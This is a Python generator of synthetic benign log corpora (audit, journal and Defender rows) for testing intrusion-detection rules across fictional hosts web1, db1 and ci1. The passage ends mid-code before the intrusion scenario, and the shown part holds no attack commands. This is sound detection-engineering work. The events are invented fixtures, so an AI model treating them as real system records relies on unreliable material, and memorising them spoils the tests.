#!/usr/bin/env python3
"""Writes the event rules' corpora, as `dossier_events::Event` JSON lines the way the parsers
normalize their sources (audit `execve`/`openat`/`connect`... records with `fields`, journal
sshd/sudo/systemd messages, Defender for Endpoint rows):

- benign_day.jsonl: an ordinary day (2026-11-19) on web1 (audit + journal), db1 (Defender
  for Endpoint export) and ci1 (audit + journal, a CI runner building in /tmp);
- intrusion.jsonl: the session plan's intrusion story of 2026-11-20 across web1 (audit) and
  db1 (Defender), with some of the same background.

Deterministic (no randomness, no clock): run it again and the files are the same.
Usage: python3 gen_corpora.py  (writes next to itself)
"""

import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))

# Addresses: admin network 10.0.5.0/24, documentation ranges for the outside.
ATTACKER = "203.0.113.45"
GUESSER = "198.51.100.7"
SYNCD_SHA = "b904a02bfbae3d692f6f2bd4a64170aff4fd7b7e7b92fed5293af10f6218e794"
DB1 = "db1.corp.example.com"
DEVICE_ID = "5d1c7a0e9b2f4c6d8e0a1b3c5d7e9f1a2b4c6d8e"


def ts(day, h, m, s, frac=0):
    return f"2026-11-{day:02d}T{h:02d}:{m:02d}:{s:02d}.{frac:03d}Z"


def dts(day, h, m, s, frac=0):
    return f"2026-11-{day:02d}T{h:02d}:{m:02d}:{s:02d}.{frac:07d}Z"


def jts(day, h, m, s, frac=0):
    return f"2026-11-{day:02d}T{h:02d}:{m:02d}:{s:02d}.{frac:06d}Z"


class Audit:
    """audit.log of one host: events as dossier_events::audit normalizes them."""

    def __init__(self, host, out, serial=1000):
        self.host, self.out, self.serial, self.line = host, out, serial, 1

    def _origin(self, n):
        self.serial += 1
        rec = f"lines {self.line}-{self.line + n - 1}, serial {self.serial}"
        self.line += n
        return {"file": f"{self.host}/audit.log", "record": rec}

    def _fields(self, uid, auid, tty, ses, cwd, key, syscall, extra=None):
        f = {
            "arch": "x86_64",
            "auid": auid if auid else "unset",
            "euid": uid,
            "exit": "0",
            "ses": ses if auid else "4294967295",
            "syscall": syscall,
            "tty": tty,
            "uid": uid,
        }
        if not auid:
            del f["auid"]
        if cwd:
            f["cwd"] = cwd
        if key:
            f["key"] = key
        f.update(extra or {})
        return f

    def execve(self, t, pid, ppid, exe, argv, uid="root", auid=None, tty="(none)", ses="1",
               cwd="/", comm=None, key="exec"):
        fields = self._fields(uid, auid, tty, ses, cwd, key, "59",
                              {"argc": str(len(argv)), "path_nametype": "NORMAL"})
        self.out.append({
            "time": t, "host": self.host,
            "source": {"format": "audit", "table": "SYSCALL"},
            "action": "execve",
            "process": {"pid": pid, "ppid": ppid, "name": comm or os.path.basename(exe)[:15],
                        "exe": exe, "command_line": " ".join(argv), "user": uid},
            "user": auid or uid, "file": exe, "outcome": "success",
            "fields": fields, "origin": self._origin(6),
        })

    def syscall(self, t, action, number, pid, ppid, exe, cmd, path, nametype="NORMAL",
                uid="root", auid=None, tty="(none)", ses="1", cwd="/", key=None,
                success=True, comm=None):
        fields = self._fields(uid, auid, tty, ses, cwd, key, number,
                              {"path_nametype": nametype})
        self.out.append({
            "time": t, "host": self.host,
            "source": {"format": "audit", "table": "SYSCALL"},
            "action": action,
            "process": {"pid": pid, "ppid": ppid, "name": comm or os.path.basename(exe)[:15],
                        "exe": exe, "command_line": cmd, "user": uid},
            "user": auid or uid, "file": path,
            "outcome": "success" if success else "failure",
            "fields": fields, "origin": self._origin(5),
        })

    def connect(self, t, pid, ppid, exe, cmd, addr, port, uid="root", auid=None, ses="1",
                success=True):
        fields = self._fields(uid, auid, "(none)", ses, None, "net", "42",
                              {"sockaddr_family": "inet"})
        if not success:
            fields["exit"] = "-115"
        self.out.append({
            "time": t, "host": self.host,
            "source": {"format": "audit", "table": "SYSCALL"},
            "action": "connect",
            "process": {"pid": pid, "ppid": ppid, "name": os.path.basename(exe)[:15],
                        "exe": exe, "command_line": cmd, "user": uid},
            "user": auid or uid, "peer": {"addr": addr, "port": port},
            "outcome": "success" if success else "failure",
            "fields": fields, "origin": self._origin(4),
        })

    def message(self, t, rtype, pid, exe, user, outcome, fields, addr=None):
        ev = {
            "time": t, "host": self.host,
            "source": {"format": "audit", "table": rtype},
            "action": rtype,
            "process": {"pid": pid, "name": os.path.basename(exe), "exe": exe, "user": "root"},
            "user": user, "outcome": outcome,
            "fields": dict(fields, res=outcome if outcome != "failure" else "failed"),
            "origin": self._origin(1),
        }
        if addr:
            ev["peer"] = {"addr": addr}
        self.out.append(ev)


class Journal:
    """journalctl -o json of one host, as dossier_events::journal classifies it."""

    def __init__(self, host, out):
        self.host, self.out, self.line = host, out, 1

    def entry(self, t, ident, pid, exe, cmdline, message, action="log", user=None, peer=None,
              outcome=None, fields=None, uid="uid=0"):
        ev = {
            "time": t, "host": self.host,
            "source": {"format": "journal", "table": ident},
            "action": action,
            "process": {"pid": pid, "name": os.path.basename(exe)[:15], "exe": exe, "user": uid},
            "script": message,
            "fields": dict({"PRIORITY": "6", "SYSLOG_IDENTIFIER": ident, "_TRANSPORT": "syslog"},
                           **(fields or {})),
            "origin": {"file": f"{self.host}/journal.json",
                       "record": f"line {self.line}, cursor s=0;i={self.line:x}"},
        }
        if cmdline:
            ev["process"]["command_line"] = cmdline
        if user:
            ev["user"] = user
        if peer:
            ev["peer"] = peer
        if outcome:
            ev["outcome"] = outcome
        self.line += 1
        self.out.append(ev)

    def accepted(self, t, pid, user, addr, port, method="publickey"):
        self.entry(t, "sshd", pid, "/usr/sbin/sshd", f"sshd: {user} [priv]",
                   f"Accepted {method} for {user} from {addr} port {port} ssh2",
                   action="logon_success", user=user,
                   peer={"addr": addr, "port": port, "protocol": "tcp"}, outcome="success",
                   fields={"auth_method": method})

    def sudo(self, t, pid, user, uid, command, pwd, tty="pts/0"):
        self.entry(t, "sudo", pid, "/usr/bin/sudo", "sudo " + command.split("/")[-1],
                   f"{user} : TTY={tty} ; PWD={pwd} ; USER=root ; COMMAND={command}",
                   action="sudo", user=user, outcome="success", uid=uid,
                   fields={"tty": tty, "pwd": pwd, "target_user": "root"})
        self.out[-1]["process"]["command_line"] = command

    def started(self, t, unit, desc):
        self.entry(t, "systemd", 1, "/usr/lib/systemd/systemd", "/sbin/init",
                   f"Started {unit} - {desc}.", action="unit_started", fields={"unit": unit})


class Defender:
    """Defender for Endpoint advanced-hunting rows of one device, as normalized."""

    def __init__(self, host, out, report=70000):
        self.host, self.out, self.report, self.line = host, out, report, 2

    def _base(self, t, table, action, fields=None):
        self.report += 1
        ev = {
            "time": t, "host": self.host,
            "source": {"format": "defender_csv", "table": table},
            "action": action,
            "fields": dict({"DeviceId": DEVICE_ID, "ReportId": str(self.report)}, **(fields or {})),
            "origin": {"file": f"db1/{table}.csv",
                       "record": f"line {self.line}, ReportId {self.report}"},
        }
        self.line += 1
        return ev

    def process(self, t, proc, init, grandparent="systemd", user="root", sha=None,
                fields=None):
        ev = self._base(t, "DeviceProcessEvents", "ProcessCreated",
                        dict({"InitiatingProcessParentFileName": grandparent,
                              "AccountDomain": "db1"}, **(fields or {})))
        p = dict(proc, user=user)
        if sha:
            p["sha256"] = sha
        ev["process"] = p
        ev["parent"] = init
        ev["user"] = user
        self.out.append(ev)

    def script(self, t, init, parent_name, parent_pid, text, user="root"):
        ev = self._base(t, "DeviceEvents", "ScriptContent",
                        {"InitiatingProcessParentFileName": parent_name})
        ev["process"] = dict(init, user=user)
        ev["parent"] = {"name": parent_name, "pid": parent_pid}
        ev["script"] = text
        ev["user"] = user
        self.out.append(ev)

    def file(self, t, action, path, init, parent_name, parent_pid, user="root", sha=None):
        ev = self._base(t, "DeviceFileEvents", action,
                        {"InitiatingProcessParentFileName": parent_name,
                         "RequestProtocol": "Local"})
        ev["process"] = dict(init, user=user)
        ev["parent"] = {"name": parent_name, "pid": parent_pid}
        ev["user"] = user
        ev["file"] = path
        if sha:
            ev["file_sha256"] = sha
        self.out.append(ev)

    def connection(self, t, init, parent_name, parent_pid, addr, port, lport, user="root",
                   action="ConnectionSuccess"):
        ev = self._base(t, "DeviceNetworkEvents", action,
                        {"InitiatingProcessParentFileName": parent_name,
                         "RemoteIPType": "Private" if addr.startswith("10.") else "Public",
                         "LocalIPType": "Private"})
        ev["process"] = dict(init, user=user)
        ev["parent"] = {"name": parent_name, "pid": parent_pid}
        ev["user"] = user
        ev["peer"] = {"addr": addr, "port": port, "protocol": "tcp"}
        ev["local"] = {"addr": "10.0.6.21", "port": lport, "protocol": "tcp"}
        ev["outcome"] = "success" if action == "ConnectionSuccess" else "failure"
        self.out.append(ev)

    def logon(self, t, action, account, addr=None, port=None, logon_type="Network"):
        ev = self._base(t, "DeviceLogonEvents", action,
                        {"LogonType": logon_type, "InitiatingProcessParentFileName": "sshd"
                         if addr else "cron"})
        if addr:
            ev["process"] = {"pid": 790, "name": "sshd", "exe": "/usr/sbin/sshd",
                             "command_line": "sshd: /usr/sbin/sshd -D [listener]",
                             "user": "root"}
            ev["peer"] = {"addr": addr, "port": port}
        else:
            ev["process"] = {"pid": 611, "name": "cron", "exe": "/usr/sbin/cron",
                             "command_line": "/usr/sbin/cron -f -P", "user": "root"}
        ev["user"] = account
        ev["outcome"] = "success" if action == "LogonSuccess" else "failure"
        self.out.append(ev)


SA1_SCRIPT = """#!/bin/sh
# /usr/lib/sysstat/sa1: collect and store binary data in the daily
# system activity data file.
HISTORY=0
SADC_OPTIONS="-S DISK"
SA_DIR=/var/log/sysstat
SYSCONFIG_DIR=/etc/sysstat
[ -r ${SYSCONFIG_DIR}/sysstat ] && . ${SYSCONFIG_DIR}/sysstat
ENDIR=/usr/lib/sysstat
cd ${ENDIR}
[ "$1" = "--boot" ] && shift && BOOT=y || BOOT=n
if [ $# = 0 ] && [ "${BOOT}" = "n" ]; then
\texec ${ENDIR}/sadc -F -L ${SADC_OPTIONS} 1 1 ${SA_DIR}
else
\texec ${ENDIR}/sadc -F -L ${SADC_OPTIONS} $* ${SA_DIR}
fi
"""

DEBIAN_SA1 = """#!/bin/sh
# debian-sa1: run sa1 unless systemd timers do it
set -e
[ -x /usr/lib/sysstat/sa1 ] || exit 0
[ -r /etc/default/sysstat ] && . /etc/default/sysstat
[ "$ENABLED" = "true" ] || exit 0
if [ -d /run/systemd/system ] && [ "$1" != "--boot" ]; then
    exit 0
fi
exec /usr/lib/sysstat/sa1 "$@"
"""

JAR_SCRIPT = """import glob, json, sys, zipfile
# get_jar_data_list.py: inventory of JAR manifests
SEARCH = "/usr/sap/*/*/j2ee/cluster/apps/sap.com/devserver_metadataupload_ear/servlet_jsp/developmentserver/root/WEB-INF/lib/devserver_metadataupload_war.jar"
KEYS = ("implementation-version", "implementation-vendor")
out = []
for path in glob.glob(SEARCH):
    try:
        with zipfile.ZipFile(path) as jar:
            text = jar.read("META-INF/MANIFEST.MF").decode("utf-8", "replace")
    except (OSError, KeyError, zipfile.BadZipFile) as e:
        out.append({"path": path, "error": str(e)})
        continue
    fields = dict(l.split(": ", 1) for l in text.splitlines() if ": " in l)
    out.append({"path": path, **{k: fields.get(k.title(), "") for k in KEYS}})
print(json.dumps(out))
"""

PY_PKG_SCRIPT = """import json, os, sys
# find_python_package.py: list installed Python packages
SEARCH_DIRS = "/home/user/envs,/opt/venvs".split(",")
GLOBAL_DIRS = "/usr/local/lib,/tmp/venv/lib".split(",")
found = []
for base in SEARCH_DIRS + GLOBAL_DIRS:
    for root, dirs, files in os.walk(base):
        for d in dirs:
            if d.endswith(".dist-info"):
                name, _, version = d[:-len(".dist-info")].partition("-")
                found.append({"name": name, "version": version, "path": os.path.join(root, d)})
json.dump(found, sys.stdout)
"""

LOG4J_SCRIPT = """import json, os, subprocess
# open_files.py: look for log4j in the open files of java processes
SCAN_ID = "log4j_handlersV2"
FILTER_NAME = "log4j,LOG4J,spring-core"
PROCESS_NAMES = "java,javaw"
ENV_MARKER = "LOG4J_FORMAT_MSG_NO_LOOKUPS=true"
MARKER = "/var/opt/microsoft/mdatp/wdavedr/log4jMitigationApplied"
COLLECT_DIRLIST = "/log4j/core/lookup/JndiLookup.class,log4j-,spring-core-"
out = {"scan": SCAN_ID, "mitigated": os.path.exists(MARKER), "files": []}
lsof = subprocess.run(["lsof", "-a", "-c", "java", "-c", "javaw"], capture_output=True, text=True)
for line in lsof.stdout.splitlines()[1:]:
    path = line.split()[-1]
    if any(f in path for f in FILTER_NAME.split(",")):
        out["files"].append(path)
print(json.dumps(out))
"""

WDAV = {"pid": 1187, "ppid": 1, "name": "wdavdaemon", "exe": "/opt/microsoft/mdatp/sbin/wdavdaemon",
        "command_line": "/opt/microsoft/mdatp/sbin/wdavdaemon edr 12 11", "user": "root"}
JAVA = {"pid": 1402, "ppid": 1, "name": "java", "exe": "/usr/share/wazuh-indexer/jdk/bin/java",
        "command_line": "/usr/share/wazuh-indexer/jdk/bin/java -Xshare:auto -Xms1g -Xmx1g "
                        "org.opensearch.bootstrap.OpenSearch", "user": "wazuh-indexer"}


def db1_edr_round(d, day, h, m, pid):
    """One round of the EDR agent's scripts and its process inventory (seed 001's kinds)."""
    for i, (script, text, args) in enumerate([
        ("get_jar_data_list.py", JAR_SCRIPT, " --path /usr/sap"),
        ("find_python_package.py", PY_PKG_SCRIPT, ""),
        ("open_files.py", LOG4J_SCRIPT, " --scan log4j_handlersV2"),
    ]):
        p = {"pid": pid + i * 10, "ppid": 1187, "name": "python3.10", "exe": "/usr/bin/python3.10",
             "command_line": f"/bin/python3 /opt/microsoft/mdatp/conf/scripts/{script}{args}"}
        d.process(dts(day, h, m, 36 + i, 992885), p, WDAV, grandparent="systemd",
                  fields={"AdditionalFields": "{\"InitiatingProcessPosixEffectiveGroup\": {\"Name\": \"mdatp\", \"PosixGroupId\": 997}, \"PosixUserId\": 0}"})
        d.script(dts(day, h, m, 37 + i, 49669), p, "wdavdaemon", 1187, text)
    # open_files.py runs lsof through sh; ps and osqueryi for the process inventory.
    sh = {"pid": pid + 40, "ppid": pid + 20, "name": "dash", "exe": "/usr/bin/dash",
          "command_line": "/bin/sh -c \"lsof -a -c java -c javaw\"", "user": "root"}
    d.process(dts(day, h, m, 38, 297778), {"pid": pid + 40, "ppid": pid + 40, "name": "lsof",
              "exe": "/usr/bin/lsof", "command_line": "lsof -a -c java -c javaw"}, sh,
              grandparent="python3.10")
    py = {"pid": pid, "ppid": 1187, "name": "python3.10", "exe": "/usr/bin/python3.10",
          "command_line": "/bin/python3 /opt/microsoft/mdatp/conf/scripts/get_jar_data_list.py --path /usr/sap",
          "user": "root"}
    d.process(dts(day, h, m, 39, 100000), {"pid": pid + 50, "ppid": pid, "name": "ps", "exe": "/usr/bin/ps",
              "command_line": "/bin/ps -A -o comm,pid,ppid,user,args"}, py, grandparent="wdavdaemon")
    d.process(dts(day, h, m, 40, 200000), {"pid": pid + 60, "ppid": 1187, "name": "osqueryi",
              "exe": "/opt/microsoft/mdatp/sbin/osqueryi",
              "command_line": "/opt/microsoft/mdatp/sbin/osqueryi --json \"select * from deb_packages\""},
              WDAV, grandparent="systemd")


def db1_sysstat(d, day, h, m, pid):
    cron_child = {"pid": pid, "ppid": 611, "name": "dash", "exe": "/usr/bin/dash",
                  "command_line": "/bin/sh /usr/lib/sysstat/sa1 1 1"}
    d.script(dts(day, h, m, 1, 381020), cron_child, "cron", 611, SA1_SCRIPT)
    helper = {"pid": pid + 1, "ppid": 611, "name": "dash", "exe": "/usr/bin/dash",
              "command_line": "/bin/sh -c \"command -v debian-sa1 > /dev/null && debian-sa1 1 1\""}
    d.script(dts(day, h, m, 1, 964973), helper, "cron", 611, DEBIAN_SA1)


def db1_indexer(d, day, h, m, n):
    for i in range(n):
        d.file(dts(day, h, m, (4 + i) % 60, 393268), "FileDeleted",
               f"/var/lib/wazuh-indexer/nodes/0/indices/Qx3pV0aRRqWcGk1xd8dH2w/0/index/_{h:x}{m:x}{i:x}_Lucene912_0.doc",
               JAVA, "systemd", 1, user="wazuh-indexer")


def web1_sysstat(a, day, h, m, pid):
    a.execve(ts(day, h, m, 1, 12), pid, 612, "/usr/bin/dash",
             ["/bin/sh", "-c", "command -v debian-sa1 > /dev/null && debian-sa1 1 1"],
             auid="root", ses=str(pid), comm="sh")
    a.execve(ts(day, h, m, 1, 40), pid + 2, pid + 1, "/usr/lib/sysstat/sadc",
             ["/usr/lib/sysstat/sadc", "-F", "-L", "-S", "DISK", "1", "1", "/var/log/sysstat"],
             auid="root", ses=str(pid), cwd="/usr/lib/sysstat")


def benign():
    out = []
    w = Audit("web1", out, 50000)
    wj = Journal("web1", out)
    c = Audit("ci1", out, 90000)
    cj = Journal("ci1", out)
    d = Defender(DB1, out)
    day = 19
    # --- web1: sysstat every ten minutes, the whole day.
    pid = 20000
    for h in range(24):
        for m in range(0, 60, 10):
            web1_sysstat(w, day, h, m, pid)
            pid += 7
        # hourly run-parts
        w.execve(ts(day, h, 17, 1, 5), pid, 612, "/usr/bin/run-parts",
                 ["run-parts", "--report", "/etc/cron.hourly"], auid="root", ses=str(pid))
        pid += 3
    # --- web1: cron.daily at 06:25: logrotate, Debian's passwd backup.
    w.execve(ts(day, 6, 25, 1, 0), 31000, 612, "/usr/bin/run-parts",
             ["run-parts", "--report", "/etc/cron.daily"], auid="root", ses="900")
    w.execve(ts(day, 6, 25, 1, 200), 31001, 31000, "/usr/bin/dash",
             ["/bin/sh", "/etc/cron.daily/logrotate"], auid="root", ses="900", comm="logrotate")
    w.execve(ts(day, 6, 25, 1, 300), 31002, 31001, "/usr/sbin/logrotate",
             ["/usr/sbin/logrotate", "/etc/logrotate.conf"], auid="root", ses="900")
    for i, log in enumerate(["nginx/access.log", "nginx/error.log", "auth.log", "syslog"]):
        w.syscall(ts(day, 6, 25, 2, 100 + i), "rename", "82", 31002, 31001, "/usr/sbin/logrotate",
                  "/usr/sbin/logrotate /etc/logrotate.conf", f"/var/log/{log}", "DELETE",
                  auid="root", ses="900", key="logs")
        w.syscall(ts(day, 6, 25, 2, 300 + i), "unlink", "87", 31002, 31001, "/usr/sbin/logrotate",
                  "/usr/sbin/logrotate /etc/logrotate.conf", f"/var/log/{log}.8.gz", "DELETE",
                  auid="root", ses="900", key="logs")
        w.execve(ts(day, 6, 25, 2, 500 + i), 31010 + i, 31002, "/usr/bin/gzip",
                 ["/bin/gzip"], auid="root", ses="900")
        w.syscall(ts(day, 6, 25, 2, 700 + i), "unlink", "87", 31010 + i, 31002, "/usr/bin/gzip",
                  "/bin/gzip", f"/var/log/{log}.2", "DELETE", auid="root", ses="900", key="logs")
    w.execve(ts(day, 6, 25, 3, 0), 31020, 31000, "/usr/bin/dash",
             ["/bin/sh", "/etc/cron.daily/passwd"], auid="root", ses="900", comm="passwd")
    w.execve(ts(day, 6, 25, 3, 100), 31021, 31020, "/usr/bin/cmp",
             ["cmp", "-s", "shadow.bak", "/etc/shadow"], auid="root", ses="900", cwd="/var/backups")
    w.execve(ts(day, 6, 25, 3, 200), 31022, 31020, "/usr/bin/cp",
             ["cp", "-p", "/etc/shadow", "shadow.bak"], auid="root", ses="900", cwd="/var/backups")
    w.syscall(ts(day, 6, 25, 3, 210), "openat", "257", 31022, 31020, "/usr/bin/cp",
              "cp -p /etc/shadow shadow.bak", "/etc/shadow", auid="root", ses="900",
              cwd="/var/backups", key="shadow")
    # --- web1: the administrator's day: logon, troubleshooting, apt upgrade, nginx restart.
    wj.accepted(jts(day, 9, 2, 11, 120000), 40100, "alice", "10.0.5.10", 51022)
    w.message(ts(day, 9, 2, 11, 300), "USER_LOGIN", 40100, "/usr/sbin/sshd", "alice", "success",
              {"op": "login", "terminal": "/dev/pts/0", "auid": "alice", "ses": "41"},
              addr="10.0.5.10")
    shell = 40110
    w.execve(ts(day, 9, 2, 12, 0), shell, 40100, "/usr/bin/bash", ["-bash"], uid="alice",
             auid="alice", tty="pts0", ses="41", cwd="/home/alice", comm="bash")
    for i, argv in enumerate([["uptime"], ["df", "-h"], ["free", "-m"], ["ss", "-tlnp"],
                              ["ps", "aux"], ["tail", "-n", "100", "/var/log/nginx/error.log"],
                              ["uname", "-r"]]):
        w.execve(ts(day, 9, 3, 5 + i * 20, 0), shell + 1 + i, shell, "/usr/bin/" + argv[0], argv,
                 uid="alice", auid="alice", tty="pts0", ses="41", cwd="/home/alice")
    wj.sudo(jts(day, 9, 30, 0, 1000), 40200, "alice", "uid=1001", "/usr/bin/apt update", "/home/alice")
    w.execve(ts(day, 9, 30, 0, 5), 40201, 40200, "/usr/bin/apt", ["apt", "update"], auid="alice",
             tty="pts0", ses="41", cwd="/home/alice")
    wj.sudo(jts(day, 9, 31, 0, 1000), 40210, "alice", "uid=1001", "/usr/bin/apt upgrade -y", "/home/alice")
    w.execve(ts(day, 9, 31, 0, 5), 40211, 40210, "/usr/bin/apt", ["apt", "upgrade", "-y"],
             auid="alice", tty="pts0", ses="41", cwd="/home/alice")
    w.execve(ts(day, 9, 31, 20, 5), 40212, 40211, "/usr/bin/dpkg",
             ["/usr/bin/dpkg", "--status-fd", "23", "--no-triggers", "--unpack", "--auto-deconfigure",
              "/var/cache/apt/archives/sysstat_12.6.1-2_amd64.deb"], auid="alice", tty="pts0", ses="41")
    for i, f in enumerate(["/etc/cron.d/sysstat", "/lib/systemd/system/sysstat.service",
                           "/lib/systemd/system/sysstat-collect.timer"]):
        w.syscall(ts(day, 9, 31, 21, 100 + i), "openat", "257", 40212, 40211, "/usr/bin/dpkg",
                  "/usr/bin/dpkg --status-fd 23 --no-triggers --unpack", f + ".dpkg-new", "CREATE",
                  auid="alice", tty="pts0", ses="41", key="persistence")
        w.syscall(ts(day, 9, 31, 21, 200 + i), "rename", "82", 40212, 40211, "/usr/bin/dpkg",
                  "/usr/bin/dpkg --status-fd 23 --no-triggers --unpack", f, "CREATE",
                  auid="alice", tty="pts0", ses="41", key="persistence")
    w.execve(ts(day, 9, 31, 25, 0), 40220, 40211, "/usr/bin/dpkg",
             ["/usr/bin/dpkg", "--status-fd", "23", "--configure", "--pending"], auid="alice",
             tty="pts0", ses="41")
    w.execve(ts(day, 9, 31, 25, 100), 40221, 40220, "/usr/bin/dash",
             ["/bin/sh", "/var/lib/dpkg/info/sysstat.postinst", "configure", "12.6.1-1"],
             auid="alice", tty="pts0", ses="41", comm="sysstat.postins")
    w.execve(ts(day, 9, 31, 25, 200), 40222, 40221, "/usr/bin/perl",
             ["/usr/bin/perl", "/usr/bin/deb-systemd-helper", "enable", "sysstat.service"],
             auid="alice", tty="pts0", ses="41", comm="deb-systemd-hel")
    w.syscall(ts(day, 9, 31, 25, 300), "symlink", "88", 40222, 40221, "/usr/bin/perl",
              "/usr/bin/perl /usr/bin/deb-systemd-helper enable sysstat.service",
              "/etc/systemd/system/multi-user.target.wants/sysstat.service", "CREATE",
              auid="alice", tty="pts0", ses="41", key="persistence", comm="deb-systemd-hel")
    w.execve(ts(day, 9, 31, 26, 0), 40223, 40221, "/usr/sbin/adduser",
             ["adduser", "--system", "--group", "--no-create-home", "--home", "/var/lib/sysstat", "_sysstat"],
             auid="alice", tty="pts0", ses="41")
    w.execve(ts(day, 9, 31, 27, 0), 40224, 40221, "/usr/bin/systemctl",
             ["systemctl", "daemon-reload"], auid="alice", tty="pts0", ses="41")
    wj.sudo(jts(day, 9, 40, 0, 1000), 40300, "alice", "uid=1001", "/usr/bin/systemctl restart nginx",
            "/home/alice")
    w.execve(ts(day, 9, 40, 0, 5), 40301, 40300, "/usr/bin/systemctl",
             ["systemctl", "restart", "nginx"], auid="alice", tty="pts0", ses="41")
    wj.started(jts(day, 9, 40, 1, 0), "nginx.service", "A high performance web server and a reverse proxy server")
    # alice edits her crontab (a person with an editor at a terminal: Low).
    w.execve(ts(day, 9, 45, 0, 0), 40400, shell, "/usr/bin/crontab", ["crontab", "-e"],
             uid="alice", auid="alice", tty="pts0", ses="41", cwd="/home/alice")
    w.execve(ts(day, 9, 45, 0, 50), 40401, 40400, "/usr/bin/vim.basic",
             ["/usr/bin/sensible-editor", "/tmp/crontab.Xc81Hd/crontab"], uid="alice", auid="alice",
             tty="pts0", ses="41", cwd="/home/alice", comm="vim")
    w.syscall(ts(day, 9, 46, 10, 0), "rename", "82", 40400, shell, "/usr/bin/crontab", "crontab -e",
              "/var/spool/cron/crontabs/alice", "CREATE", uid="root", auid="alice", tty="pts0",
              ses="41", key="cron")
    wj.sudo(jts(day, 9, 50, 0, 1000), 40500, "alice", "uid=1001", "/usr/bin/journalctl --vacuum-time=14d",
            "/home/alice")
    w.execve(ts(day, 9, 50, 0, 5), 40501, 40500, "/usr/bin/journalctl",
             ["journalctl", "--vacuum-time=14d"], auid="alice", tty="pts0", ses="41")
    # a second administrator from the same admin network, later in the day.
    wj.accepted(jts(day, 14, 12, 40, 0), 41100, "alice", "10.0.5.11", 40122)
    wj.accepted(jts(day, 14, 20, 3, 0), 41200, "bob", "10.0.5.12", 40188)
    wj.accepted(jts(day, 16, 1, 3, 0), 41300, "bob", "10.0.5.12", 40190)
    # web application: php-fpm making thumbnails as www-data.
    for i in range(12):
        w.execve(ts(day, 10 + i // 2, (i * 7) % 60, 5, 0), 42000 + i, 880, "/usr/bin/convert-im6.q16",
                 ["convert", f"/var/www/shop/uploads/p{i}.jpg", "-resize", "400x400",
                  f"/var/www/shop/thumbs/p{i}.jpg"], uid="www-data", cwd="/var/www/shop", comm="convert")
    # in-house units started by systemd.
    for h in (3, 12):
        wj.started(jts(day, h, 0, 0, 0), "shop-backup.service", "Shop nightly backup")
        w.execve(ts(day, h, 0, 0, 100), 43000 + h, 1, "/opt/shop/bin/shop-backup",
                 ["/opt/shop/bin/shop-backup", "--target", "/srv/backup"], uid="shop")
        w.connect(ts(day, h, 0, 1, 0), 43000 + h, 1, "/opt/shop/bin/shop-backup",
                  "/opt/shop/bin/shop-backup --target /srv/backup", "10.0.6.21", 5432, uid="shop")

    # --- ci1: the CI runner builds and tests in /tmp.
    cj.entry(jts(day, 0, 0, 5, 0), "gitlab-runner", 700, "/usr/bin/gitlab-runner",
             "/usr/bin/gitlab-runner run --working-directory /home/gitlab-runner --config /etc/gitlab-runner/config.toml --service gitlab-runner --user gitlab-runner",
             "Checking for jobs... nothing", uid="uid=0")
    cpid = 60000
    for job in range(8):
        h = 1 + job * 3
        jd = f"/tmp/ci-job-{5520 + job}"
        u = "gitlab-runner"
        cj.entry(jts(day, h, 0, 0, 0), "gitlab-runner", 700, "/usr/bin/gitlab-runner", None,
                 f"Checking for jobs... received job={5520 + job}", uid="uid=0")
        sh = cpid
        c.execve(ts(day, h, 0, 1, 0), sh, 700, "/usr/bin/bash", ["bash", "--login"], uid=u,
                 cwd=jd)
        c.execve(ts(day, h, 0, 2, 0), sh + 1, sh, "/usr/bin/git",
                 ["git", "clone", "--depth", "20", "https://git.corp.example.com/shop/core.git", jd],
                 uid=u, cwd="/tmp")
        c.connect(ts(day, h, 0, 2, 500), sh + 1, sh, "/usr/bin/git", "git clone", "10.0.7.2", 443, uid=u)
        if job % 2 == 0:
            # cargo test: rustc, the linker, then the test binaries run from target/ in /tmp.
            cargo = sh + 10
            c.execve(ts(day, h, 1, 0, 0), cargo, sh,
                     "/home/gitlab-runner/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/cargo",
                     ["cargo", "test", "--locked"], uid=u, cwd=jd)
            for k in range(3):
                c.execve(ts(day, h, 1, 5 + k, 0), cargo + 1 + k, cargo,
                         "/home/gitlab-runner/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc",
                         ["rustc", "--crate-name", f"shop_core{k}", "--edition=2021", "src/lib.rs",
                          "--test", "--out-dir", f"{jd}/target/debug/deps"], uid=u, cwd=jd)
                c.execve(ts(day, h, 1, 6 + k, 0), cargo + 5 + k, cargo + 1 + k,
                         "/usr/bin/x86_64-linux-gnu-gcc-12", ["cc", "-m64", "-o",
                         f"{jd}/target/debug/deps/shop_core{k}-3f2a9b1c7d4e5f6{k}"], uid=u, cwd=jd, comm="cc")
                c.execve(ts(day, h, 1, 6 + k, 500), cargo + 8 + k, cargo + 5 + k,
                         "/usr/bin/x86_64-linux-gnu-ld.bfd", ["/usr/bin/ld", "-o",
                         f"{jd}/target/debug/deps/shop_core{k}-3f2a9b1c7d4e5f6{k}"], uid=u, cwd=jd, comm="ld")
            for k in range(3):
                exe = f"{jd}/target/debug/deps/shop_core{k}-3f2a9b1c7d4e5f6{k}"
                c.execve(ts(day, h, 2, 10 + k, 0), cargo + 20 + k, cargo, exe, [exe], uid=u, cwd=jd,
                         comm=f"shop_core{k}-3f2a")
                c.connect(ts(day, h, 2, 10 + k, 300), cargo + 20 + k, cargo, exe, exe, "127.0.0.1", 5432, uid=u)
                c.connect(ts(day, h, 2, 10 + k, 600), cargo + 20 + k, cargo, exe, exe, "10.0.7.5", 6379, uid=u)
        else:
            # make && ctest in a build directory under /tmp; go test's binaries in go-build.
            c.execve(ts(day, h, 1, 0, 0), sh + 10, sh, "/usr/bin/cmake",
                     ["cmake", "-S", jd, "-B", f"{jd}/build"], uid=u, cwd=jd)
            c.execve(ts(day, h, 1, 30, 0), sh + 11, sh, "/usr/bin/make",
                     ["make", "-C", f"{jd}/build", "-j8"], uid=u, cwd=jd)
            c.execve(ts(day, h, 1, 31, 0), sh + 12, sh + 11, "/usr/bin/x86_64-linux-gnu-g++-12",
                     ["c++", "-O2", "-o", f"{jd}/build/tests/test_parser", "tests/test_parser.cpp"],
                     uid=u, cwd=f"{jd}/build", comm="c++")
            c.execve(ts(day, h, 2, 0, 0), sh + 13, sh, "/usr/bin/ctest",
                     ["ctest", "--test-dir", f"{jd}/build", "--output-on-failure"], uid=u, cwd=jd)
            for k, t in enumerate(["test_parser", "test_cart", "test_tax"]):
                exe = f"{jd}/build/tests/{t}"
                c.execve(ts(day, h, 2, 1 + k, 0), sh + 14 + k, sh + 13, exe, [exe], uid=u,
